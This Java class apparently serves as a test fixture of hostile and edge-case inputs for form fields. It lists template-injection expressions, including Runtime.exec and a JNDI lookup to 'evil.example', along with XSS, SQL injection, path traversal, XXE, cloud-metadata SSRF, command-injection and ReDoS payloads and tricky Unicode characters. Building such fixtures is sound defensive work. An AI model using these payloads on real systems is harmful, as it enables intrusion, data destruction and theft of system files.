package io.keyback;

import java.util.ArrayList;
import java.util.List;

/** What attackers, and unlucky people, type into fields. */
public final class HostileStrings {

    /** Each would show 1337 or more where something evaluated it. */
    public static final List<String> EXPRESSIONS = List.of(
            "${1336+1}",
            "#{1336+1}",
            "*{1336+1}",
            "@{1336+1}",
            "~{1336+1}",
            "[[${1336+1}]]",
            "[(${1336+1})]",
            "__${1336+1}__::.x",
            "{{1336+1}}",
            "{{=1336+1}}",
            "<%= 1336+1 %>",
            "=1336+1",
            "+1336+1",
            "@SUM(1336+1)",
            "%{1336+1}",
            "$(expr 1336 + 1)",
            "`expr 1336 + 1`",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${execution.setVariable('triage','REVIEW')}",
            "${jndi:ldap://evil.example/a}",
            "${env:HOME}",
            "{{constructor.constructor('alert(1337)')()}}",
            "th:text=\"${1336+1}\"");

    private static final List<String> OTHERS = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "<svg/onload=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<b>bold</b>",
            "<!--",
            "]]>",
            "<?xml version=\"1.0\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
            "&lt;script&gt;",
            "&#x3c;script&#x3e;",
            "\\u003cscript\\u003e",
            "%3Cscript%3E",
            "' or '1'='1",
            "'; drop table keyback.answer; --",
            "\" or \"\"=\"",
            "1; select pg_sleep(10)",
            "\\'; copy answer to program 'id'",
            "admin'--",
            "') union select null,null--",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/dev/random",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data/",
            "; cat /etc/passwd",
            "| id",
            "&& id",
            "$(id)",
            "%s%s%s%s%n",
            "%00",
            "%0d%0aSet-Cookie: a=b",
            "{\"$ne\": null}",
            "{\"@class\":\"java.lang.Runtime\"}",
            "{\"approved\":true}",
            "[object Object]",
            "__proto__",
            "constructor",
            "null",
            "undefined",
            "NaN",
            "Infinity",
            "true",
            "-1",
            "0x7fffffff",
            "1e309",
            "99999999999999999999999999",
            "0.1e-400",
            "1,000.00",
            "١٢٣",
            "１２３",
            "½",
            "2026-02-30",
            "0000-00-00",
            "9999-12-31",
            "APPROVED",
            "RESET",
            "REVIEW_TWICE",
            "*)(uid=*))(|(uid=*",
            "a".repeat(256),
            "a".repeat(5000),
            "(a+)+$" + "a".repeat(40) + "!",
            " ".repeat(300),
            "\t\t\t",
            " \u00a0\u2003 ");

    /** Built from numbers: none of them may stand in a source file. */
    private static final int[][] CHARACTERS = {
        {0}, // ends a string in C
        {7}, // rings
        {8}, // takes a character back
        {10},
        {13, 10},
        {13, 10, 66, 99, 99, 58, 32, 97, 64, 98},
        {27, 91, 51, 49, 109}, // colours a terminal
        {127},
        {0x85},
        {0x200b},
        {0x200d},
        {0x200e},
        {0x202e, 103, 112, 106}, // writes from right to left
        {0x2028},
        {0x2029},
        {0x2066},
        {0xfeff},
        {0xfffd},
        {0xffff},
        {0xd800}, // half a character
        {0xdc00},
        {0xdc00, 0xd800},
        {0xdbff, 97},
        {0x430, 0x440, 0x440, 0x6c, 0x435}, // looks like “apple”
        {0x65, 0x301, 0x301, 0x301, 0x301, 0x301, 0x301, 0x301, 0x301},
        {0x1f468, 0x200d, 0x1f469, 0x200d, 0x1f467},
        {0xe0041, 0xe0042}, // tags that nobody sees
        {0x1d4d0},
        {0xfb01},
        {0x130, 0x131},
        {0x1e9e, 0xdf}
    };

    private HostileStrings() {}

    public static List<String> all() {
        List<String> all = new ArrayList<>(EXPRESSIONS);
        all.addAll(OTHERS);
        for (int[] characters : CHARACTERS) {
            StringBuilder text = new StringBuilder();
            for (int character : characters) {
                text.appendCodePoint(character);
            }
            all.add(text.toString());
            all.add("Ann" + text + "Smith");
        }
        return List.copyOf(all);
    }
}
